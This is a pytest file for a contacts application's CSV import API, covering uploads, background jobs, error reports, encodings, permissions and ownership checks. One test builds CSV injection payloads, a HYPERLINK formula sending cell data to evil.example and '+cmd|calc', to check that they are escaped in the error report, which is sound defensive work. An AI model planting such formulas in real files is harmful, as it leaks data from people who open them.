"""Imports through the API: upload, background job, progress, report."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx

from tests.domains.contacts.test_upsert_permissions import own_only
from tests.domains.imports.conftest import broken_csv
from tests.fixtures.api import Harness


async def upload(
    client: httpx.AsyncClient,
    data: bytes,
    options: dict[str, Any] | None = None,
    *,
    path: str = "/api/v2/imports",
    name: str = "contacts.csv",
) -> httpx.Response:
    return await client.post(
        path,
        files={"file": (name, data, "text/csv")},
        data={"options": json.dumps(options or {})},
    )


async def finished(harness: Harness, client: httpx.AsyncClient, import_id: int) -> dict[str, Any]:
    await harness.app.state.jobs.drain(within_s=110)
    response = await client.get(f"/api/v2/imports/{import_id}")
    assert response.status_code == 200
    body: dict[str, Any] = response.json()
    assert body["status"] == "done", body
    return body


async def test_ten_thousand_rows_with_broken_ones(
    harness: Harness, admin: httpx.AsyncClient, tmp_path: Path
) -> None:
    await admin.post("/api/v2/fields", json={"label": "Lead score", "type": "number"})
    made = broken_csv(tmp_path / "big.csv", huge_line=True)
    response = await upload(admin, made.path.read_bytes(), {"tags": ["imported"]})
    assert response.status_code == 202, response.text
    created = response.json()
    assert created["status"] == "queued"
    assert created["options"]["detected"] == {"encoding": "utf-8", "delimiter": "comma"}

    body = await finished(harness, admin, created["id"])
    good = len(made.good_emails)
    assert body["created"] == good
    assert body["updated"] == 1  # the repeated row at the end
    assert body["failed"] == len(made.bad_lines)
    assert body["rows_read"] == made.rows + 1 + 1  # the huge line and the repeat
    assert body["progress"] == 1.0
    assert len(body["errors"]) == 100  # the first ones; all of them are in errors.csv

    report = await admin.get(f"/api/v2/imports/{created['id']}/errors.csv")
    assert report.status_code == 200
    assert report.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(report.text)))
    by_line: dict[int, list[dict[str, str]]] = {}
    for row in rows:
        by_line.setdefault(int(row["line"]), []).append(row)
    assert set(by_line) == set(made.bad_lines)
    for line, column in made.bad_lines.items():
        assert by_line[line][0]["column"] == column, (line, by_line[line])
        assert by_line[line][0]["reason"]

    listed = (await admin.get("/api/v2/contacts", params={"page[size]": 1})).json()
    assert listed["meta"]["total"] == good
    tagged = (await admin.get("/api/v2/contacts", params={"tag": "imported"})).json()
    assert tagged["meta"]["total"] == good
    renamed = (await admin.get("/api/v2/contacts", params={"q": "person0@example.com"})).json()
    assert renamed["data"][0]["last_name"] == "Renamed"
    assert renamed["data"][0]["fields"] == {"lead_score": 0}
    assert sorted(renamed["data"][0]["tags"]) == ["csv", "imported"]

    imports = (await admin.get("/api/v2/imports")).json()
    assert [i["id"] for i in imports["data"]] == [created["id"]]


async def test_identifier_upsert_owner_segment_and_mapping_overrides(
    harness: Harness, admin: httpx.AsyncClient
) -> None:
    await admin.post(
        "/api/v2/fields", json={"label": "CRM id", "type": "text", "is_identifier": True}
    )
    owner_id = await harness.create_user("owner@example.com", role="Marketer")
    existing = (
        await admin.post("/api/v2/contacts", json={"fields": {"crm_id": "C-1"}, "city": "Oslo"})
    ).json()
    segment = await admin.post("/api/v2/segments", json={"name": "From the fair"})
    assert segment.status_code == 201, segment.text
    segment_id = segment.json()["id"]
    data = "Customer;Town;Mail;Ignore me\nC-1;Bergen;;x\nC-2;Paris;new@example.com;y\n"
    response = await upload(
        admin,
        data.encode("cp1252"),
        {
            "mapping": {"Customer": "crm_id", "Town": "city", "Mail": "email", "Ignore me": None},
            "owner_id": owner_id,
            "segment_id": segment_id,
            "tags": ["fair"],
        },
    )
    assert response.status_code == 202, response.text
    body = await finished(harness, admin, response.json()["id"])
    assert (body["created"], body["updated"], body["failed"]) == (1, 1, 0)

    updated = (await admin.get(f"/api/v2/contacts/{existing['id']}")).json()
    assert updated["city"] == "Bergen"
    assert updated["owner_id"] == owner_id
    assert updated["tags"] == ["fair"]
    members = (await admin.get(f"/api/v2/segments/{segment_id}/members")).json()
    assert members["meta"]["total"] == 2


async def test_latin1_bom_and_semicolons(harness: Harness, admin: httpx.AsyncClient) -> None:
    latin = "email;city\nz@example.com;Zürich\n".encode("latin-1")
    bom = "\ufeffEmail,City\ny@example.com,Málaga\n".encode()
    for data in (latin, bom):
        response = await upload(admin, data)
        assert response.status_code == 202, response.text
        await finished(harness, admin, response.json()["id"])
    cities = {c["email"]: c["city"] for c in (await admin.get("/api/v2/contacts")).json()["data"]}
    assert cities == {"z@example.com": "Zürich", "y@example.com": "Málaga"}


async def test_preview_shows_format_mapping_and_problems(admin: httpx.AsyncClient) -> None:
    data = b"E-mail;Vorname;Country\na@example.com;Anna;DE\nbroken;Bert;DE\n"
    response = await upload(admin, data, path="/api/v2/imports/preview")
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["encoding"], body["delimiter"]) == ("utf-8", ";")
    assert body["mapping"] == {"E-mail": "email", "Vorname": None, "Country": "country"}
    assert body["rows"][1] == ["broken", "Bert", "DE"]
    assert body["errors"][0]["line"] == 3
    assert body["errors"][0]["column"] == "E-mail"
    assert any("Vorname" in n for n in body["notes"])
    # No identifier mapped yet: the wizard still gets the file, with the reason.
    no_id = await upload(admin, b"Name,City\nAnn,Oslo\n", path="/api/v2/imports/preview")
    assert no_id.status_code == 200
    assert no_id.json()["mapping"] == {"Name": None, "City": None}


async def test_bad_options_are_refused_and_nothing_is_stored(
    harness: Harness, admin: httpx.AsyncClient
) -> None:
    cases = [
        ({"mapping": {"Nope": "email"}}, "/options/mapping/Nope"),
        ({"mapping": {"email": "shoe_size"}}, "/options/mapping/email"),
        ({"owner_id": 999}, "/options/owner_id"),
        ({"segment_id": 999}, "/options/segment_id"),
        ({"encoding": "ebcdic"}, "/options/encoding"),
        ({"surprise": 1}, "/options/surprise"),
    ]
    for options, pointer in cases:
        response = await upload(admin, b"email\na@example.com\n", options)
        assert response.status_code == 422, (options, response.text)
        assert pointer in [e["pointer"] for e in response.json()["errors"]], response.text
    no_identifier = await upload(admin, b"name\nAnn\n")
    assert no_identifier.status_code == 422
    assert (await admin.get("/api/v2/imports")).json()["meta"]["total"] == 0
    uploads = harness.settings.uploads_dir / "imports"
    assert not uploads.exists() or not any(uploads.iterdir())


async def test_permissions(harness: Harness, admin: httpx.AsyncClient) -> None:
    analyst = await harness.client_as("analyst@example.com", role="Analyst")
    refused = await upload(analyst, b"email\na@example.com\n")
    assert refused.status_code == 403
    done = await upload(admin, b"email\na@example.com\n")
    await finished(harness, admin, done.json()["id"])
    marketer = await harness.client_as("marketer@example.com", role="Marketer")
    mine = await upload(marketer, b"email\nb@example.com\n")
    assert mine.status_code == 202
    await finished(harness, marketer, mine.json()["id"])
    assert (await marketer.get("/api/v2/imports")).json()["meta"]["total"] == 2
    assert (await admin.get("/api/v2/imports/999/errors.csv")).status_code == 404
    await analyst.aclose()
    await marketer.aclose()


async def test_errors_csv_shows_formulas_as_text(
    harness: Harness, admin: httpx.AsyncClient
) -> None:
    """A rejected cell is written to errors.csv as text a spreadsheet does not run."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    data = io.StringIO()
    csv.writer(data).writerows(
        [["email", "city"], [formula, "Oslo"], ["+cmd|calc", "Rome"], ["ok@example.com", "Bergen"]]
    )
    response = await upload(admin, data.getvalue().encode())
    assert response.status_code == 202, response.text
    body = await finished(harness, admin, response.json()["id"])
    assert body["failed"] == 2
    report = await admin.get(f"/api/v2/imports/{response.json()['id']}/errors.csv")
    rows = list(csv.DictReader(io.StringIO(report.text)))
    assert [r["value"] for r in rows] == ["'" + formula, "'+cmd|calc"]
    assert [r["line"] for r in rows] == ["2", "3"]


async def test_an_import_cannot_change_others_contacts(
    harness: Harness, admin: httpx.AsyncClient
) -> None:
    """Issue 15 finding 2: an own-only user's import refuses the rows that match a contact
    of someone else, reports them, and leaves the contact as it was."""
    (alice, alice_id), (bob, bob_id) = await own_only(harness, admin, "alice", "bob")
    hers = await alice.post(
        "/api/v2/contacts", json={"email": "carol@example.com", "first_name": "Carol"}
    )
    assert hers.status_code == 201, hers.text
    before = (await admin.get(f"/api/v2/contacts/{hers.json()['id']}")).json()
    data = b"E-mail,first_name\ncarol@example.com,Pwned\nnew@example.com,Newt\n"
    response = await upload(bob, data)
    assert response.status_code == 202, response.text
    body = await finished(harness, bob, response.json()["id"])
    assert (body["created"], body["updated"], body["failed"]) == (1, 0, 1)
    assert [(e["line"], e["column"]) for e in body["errors"]] == [(2, "E-mail")]
    assert "may not change" in body["errors"][0]["reason"]
    assert (await admin.get(f"/api/v2/contacts/{hers.json()['id']}")).json() == before
    made = await bob.get("/api/v2/contacts", params={"q": "new@example.com"})
    assert [c["owner_id"] for c in made.json()["data"]] == [bob_id]
    # Giving the import's contacts to someone else is refused before anything is stored.
    away = await upload(bob, data, {"owner_id": alice_id})
    assert away.status_code == 422, away.text
    assert away.json()["errors"][0]["pointer"] == "/options/owner_id"
